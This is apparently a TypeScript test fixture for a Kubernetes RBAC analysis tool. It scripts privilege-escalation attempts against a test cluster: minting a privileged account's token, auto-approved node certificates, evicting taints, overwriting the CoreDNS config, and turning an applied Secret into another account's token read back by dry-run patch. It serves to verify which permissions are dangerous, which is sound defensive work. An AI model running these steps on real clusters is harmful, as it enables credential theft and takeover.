import { Attacker, freshName, VICTIM } from './_attacker';
import { client, create, pathOf, until } from './_cluster';
import { CERTIFICATE, CHANGE, Escalation, isTreasure, node, pod, PRIVILEGED, SECRET, whereServed, WRITE, write, writes } from './escalations';
import { PolicyRule } from '../../src/kubernetes/rbac/policy-rule';

/** A certificate request of system:node:node-a in the group system:nodes. The key does not exist. */
const NODE_REQUEST = 'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIdk1JR1dBZ0VBTURReEZUQVRCZ05WQkFvTURITjVjM1JsYlRwdWIyUmxjekViTUJrR0ExVUVBd3dTYzNsegpkR1Z0T201dlpHVTZibTlrWlMxaE1Ga3dFd1lIS29aSXpqMENBUVlJS29aSXpqMERBUWNEUWdBRXRnc0p6ZXhyCk5RLzUxeFRNYU1rZWlaTFVqbmhpRGQzQm12bEp0c2dmWld4OEdGRkoxRGNZV0J6cnNZb0xFM3FoVHloZGdhQnUKYU92dnU0bjY5UVVWOXFBQU1Bb0dDQ3FHU000OUJBTUNBMGdBTUVVQ0lRQ0h4Qm5VRXBkbHBlMVZPM1JESmo2bwpybGJjbG1TZzZ5emhkSllnaUFIdnJ3SWdlVTRtWXFSTDZteHpWamtrMUV0VXBUNUR0Q25RMHR0dnpnL2VEbFdYCjBxaz0KLS0tLS1FTkQgQ0VSVElGSUNBVEUgUkVRVUVTVC0tLS0tCg==';

/** A certificate request without a subject, as the kubelet creates for pods. The key does not exist. */
const POD_REQUEST = 'MIG5MGICAQAwADBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABPDvW1A2Xu1kRj2evmwATCxYbLXlHJ0cC2GX1LdHkdTuiIbqdt7can8yw0bLWIkF0mPsAdGCSbA8k6Uek1kbEMqgADAKBggqhkjOPQQDAgNHADBEAiB7ZBB5DtHe3y8gTpf3gh59VBkwwyrMcqJ3X2HPW95xTAIgBDgpq8vAxF2dizPy94oLqJwK1oGl6kcPUlqvQWGGocM=';

const CERTIFICATES = 'certificates.k8s.io';
const NETWORKING = 'networking.k8s.io';

/** A token of one named account. */
const namedToken: Escalation = {
  rule: 'create-service-account-tokens',
  apiGroup: '',
  resource: 'serviceaccounts/token',
  names: [PRIVILEGED],
  attempts: {
    create: async attacker => {
      const { body } = await attacker.request('POST', `/api/v1/namespaces/${VICTIM}/serviceaccounts/${PRIVILEGED}/token`, {
        body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
      });
      return body.status?.token !== undefined && isTreasure(await client.request('GET', SECRET, { token: body.status.token }));
    },
  },
};

/** A taint that evicts all pods without a toleration. */
const taints: Escalation = {
  rule: 'modify-nodes',
  apiGroup: '',
  resource: 'nodes',
  clusterWide: true,
  attempts: writes({
    before: name => node(name, '192.0.2.9', 10250),
    after: { spec: { taints: [{ key: 'example.com/evil', effect: 'NoExecute' }] } },
    marker: 'example.com/evil',
  }, ...CHANGE),
  neighbours: [{ apiGroups: [''], resources: ['nodes'], verbs: ['get', 'list', 'watch'] }, { apiGroups: [''], resources: ['pods'], verbs: ['delete'] }],
};

/** Schedules a pending pod to a node of the attacker's choice. */
function bindings(resource: string, pathTo: (name: string) => string): Escalation {
  return {
    rule: 'bind-pods-to-nodes',
    apiGroup: '',
    resource,
    attempts: {
      create: async attacker => {
        const waiting = pod(freshName('waiting'), { nodeName: undefined });
        const { metadata: { name } } = await create(waiting);
        const body = { apiVersion: 'v1', kind: 'Binding', metadata: { name, namespace: VICTIM }, target: { apiVersion: 'v1', kind: 'Node', name: 'recorder' } };
        await attacker.request('POST', pathTo(name), { body });
        return (await client.request('GET', await pathOf(waiting, name))).body.spec.nodeName === 'recorder';
      },
    },
    neighbours: [{ apiGroups: [''], resources: ['pods'], verbs: ['get', 'list', 'watch'] }],
  };
}

/** The control plane automatically approves a client certificate of any node. */
const nodeCertificates: Escalation = {
  rule: 'create-node-certificates',
  apiGroup: CERTIFICATES,
  resource: 'certificatesigningrequests/nodeclient',
  clusterWide: true,
  besides: [{ apiGroups: [CERTIFICATES], resources: ['certificatesigningrequests'], verbs: ['create'] }],
  attempts: {
    create: async attacker => {
      const object = {
        apiVersion: `${CERTIFICATES}/v1`,
        kind: 'CertificateSigningRequest',
        metadata: { name: freshName('node') },
        spec: { request: NODE_REQUEST, signerName: 'kubernetes.io/kube-apiserver-client-kubelet', usages: ['digital signature', 'client auth'] },
      };
      const path = await pathOf(object);
      if ((await attacker.request('POST', path, { body: object })).status !== 201) { return false; }
      const isApproved = async (): Promise<boolean> => JSON.stringify((await client.request('GET', `${path}/${object.metadata.name}`)).body.status ?? {}).includes('Approved');
      return until('it is approved', isApproved).then(() => true, () => false);
    },
  },
  neighbours: [{ apiGroups: [CERTIFICATES], resources: ['certificatesigningrequests/selfnodeclient'], verbs: ['create'] }],
};

/** A request for the certificate of a pod of another account, with a key of the attacker. */
const podCertificates: Escalation = {
  rule: 'create-pod-certificate-requests',
  apiGroup: CERTIFICATES,
  resource: 'podcertificaterequests',
  attempts: {
    create: whereServed(`${CERTIFICATES}/v1`, 'PodCertificateRequest', async attacker => {
      const running = await create(pod(freshName('running')));
      const uidOf = async (path: string): Promise<string> => (await client.request('GET', path)).body.metadata.uid;
      const { metadata: { name: podName, uid: podUID } } = running;
      const object = {
        apiVersion: `${CERTIFICATES}/v1`,
        kind: 'PodCertificateRequest',
        metadata: { name: freshName('request'), namespace: VICTIM },
        spec: {
          signerName: 'example.com/signer',
          podName,
          podUID,
          serviceAccountName: PRIVILEGED,
          serviceAccountUID: await uidOf(`/api/v1/namespaces/${VICTIM}/serviceaccounts/${PRIVILEGED}`),
          nodeName: 'recorder',
          nodeUID: await uidOf('/api/v1/nodes/recorder'),
          maxExpirationSeconds: 86400,
          stubPKCS10Request: POD_REQUEST,
        },
      };
      return (await attacker.request('POST', await pathOf(object), { body: object })).status === 201;
    }),
  },
};

/** A certificate authority that pods trust. */
const trustBundles: Escalation = {
  rule: 'modify-cluster-trust-bundles',
  apiGroup: CERTIFICATES,
  resource: 'clustertrustbundles',
  clusterWide: true,
  attempts: Object.fromEntries(WRITE.map(verb => [verb, whereServed(`${CERTIFICATES}/v1`, 'ClusterTrustBundle', attacker => write(verb, {
    before: name => ({
      apiVersion: `${CERTIFICATES}/v1`, kind: 'ClusterTrustBundle', metadata: { name }, spec: { trustBundle: Buffer.from(CERTIFICATE, 'base64').toString() },
    }),
    after: { metadata: { labels: { evil: 'yes' } }, spec: { trustBundle: Buffer.from(CERTIFICATE, 'base64').toString() } },
    marker: 'evil',
  }, attacker))])),
};

const csiDrivers: Escalation = {
  rule: 'modify-csi-drivers',
  apiGroup: 'storage.k8s.io',
  resource: 'csidrivers',
  clusterWide: true,
  attempts: writes({
    before: name => ({ apiVersion: 'storage.k8s.io/v1', kind: 'CSIDriver', metadata: { name: `${name}.example.com` }, spec: {} }),
    after: { spec: { tokenRequests: [{ audience: 'vault' }] } },
    marker: '"audience":"vault"',
  }, ...WRITE),
  neighbours: [{ apiGroups: ['storage.k8s.io'], resources: ['csidrivers'], verbs: ['get', 'list', 'watch'] }],
};

const systemConfigMaps: Escalation = {
  rule: 'modify-system-config-maps',
  apiGroup: '',
  resource: 'configmaps',
  clusterWide: true,
  attempts: writes({
    name: 'coredns',
    before: name => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, namespace: 'kube-system' } }),
    after: { data: { Corefile: 'evil' } },
    marker: 'evil',
  }, ...WRITE),
  neighbours: [{ apiGroups: [''], resources: ['configmaps'], resourceNames: ['another'], verbs: ['update', 'patch'] }],
};

const networkPolicies: Escalation = {
  rule: 'modify-network-policies',
  apiGroup: NETWORKING,
  resource: 'networkpolicies',
  attempts: writes({
    before: name => ({ apiVersion: `${NETWORKING}/v1`, kind: 'NetworkPolicy', metadata: { name, namespace: VICTIM }, spec: { podSelector: {}, policyTypes: ['Ingress'] } }),
    after: { spec: { ingress: [{ from: [{ ipBlock: { cidr: '203.0.113.0/24' } }] }] } },
    marker: '203.0.113.0/24',
  }, ...WRITE, 'delete', 'deletecollection'),
  neighbours: [{ apiGroups: [NETWORKING], resources: ['networkpolicies'], verbs: ['get', 'list', 'watch'] }],
};

const services: Escalation = {
  rule: 'modify-services',
  apiGroup: '',
  resource: 'services',
  attempts: writes({
    before: name => ({ apiVersion: 'v1', kind: 'Service', metadata: { name, namespace: VICTIM }, spec: { ports: [{ port: 80 }] } }),
    after: { spec: { externalIPs: ['203.0.113.7'] } },
    marker: '203.0.113.7',
  }, ...WRITE),
  neighbours: [{ apiGroups: [''], resources: ['services'], verbs: ['get', 'list', 'watch', 'delete'] }],
};

/** Rows of the table of sensitive permissions that reach the cluster without RBAC, through nodes, networks or certificates. */
export function clusterEscalations(): Escalation[] {
  return [
    namedToken, taints, bindings('pods/binding', name => `/api/v1/namespaces/${VICTIM}/pods/${name}/binding`), bindings('bindings', () => `/api/v1/namespaces/${VICTIM}/bindings`),
    nodeCertificates, podCertificates, trustBundles, csiDrivers, systemConfigMaps, networkPolicies, services,
  ];
}

/** Permissions that are more powerful together than each alone. */
export interface Combination {
  readonly title: string;
  readonly rule: string;
  readonly rules: readonly PolicyRule[];
  readonly attempt: (attacker: Attacker) => Promise<boolean>;
}

/** The rows whose permissions reach nothing alone. */
export const COMBINATIONS: readonly Combination[] = [
  {
    title: 'server-side apply of one Secret makes it a token of another account, and reads it',
    rule: 'write-secrets',
    rules: [{ apiGroups: [''], resources: ['secrets'], resourceNames: ['applied'], verbs: ['create', 'patch'] }],
    attempt: async attacker => {
      const path = `/api/v1/namespaces/${VICTIM}/secrets/applied`;
      const body = {
        apiVersion: 'v1',
        kind: 'Secret',
        type: 'kubernetes.io/service-account-token',
        metadata: { name: 'applied', namespace: VICTIM, annotations: { 'kubernetes.io/service-account.name': PRIVILEGED } },
      };
      const { status } = await attacker.request('PATCH', `${path}?fieldManager=attacker`, { body, contentType: 'application/apply-patch+yaml' });
      if (status !== 201) { return false; }
      try {
        let token = '';
        await until('the token is there', async () => {
          const answer = await attacker.request('PATCH', `${path}?dryRun=All`, { body: {}, contentType: 'application/merge-patch+json' });
          token = Buffer.from(answer.body.data?.token ?? '', 'base64').toString();
          return token !== '' && isTreasure(await client.request('GET', SECRET, { token }));
        });
        return true;
      } finally {
        await client.request('DELETE', path);
      }
    },
  },
  {
    title: 'a claim with administrative access, in a namespace that gets the label for it',
    rule: 'create-admin-device-claims',
    rules: [
      { apiGroups: ['resource.k8s.io'], resources: ['resourceclaims'], verbs: ['create'] },
      { apiGroups: [''], resources: ['namespaces'], verbs: ['patch'] },
    ],
    attempt: async attacker => {
      const label = (value: string | null): any => ({ metadata: { labels: { 'resource.kubernetes.io/admin-access': value } } });
      const path = `/api/v1/namespaces/${VICTIM}`;
      const object = {
        apiVersion: 'resource.k8s.io/v1',
        kind: 'ResourceClaim',
        metadata: { name: freshName('claim'), namespace: VICTIM },
        spec: { devices: { requests: [{ name: 'all', exactly: { deviceClassName: 'gpu', allocationMode: 'All', adminAccess: true } }] } },
      };
      try {
        await attacker.request('PATCH', path, { body: label('true'), contentType: 'application/merge-patch+json' });
        return (await attacker.request('POST', await pathOf(object), { body: object })).status === 201;
      } finally {
        await client.request('PATCH', path, { body: label(null), contentType: 'application/merge-patch+json' });
      }
    },
  },
];
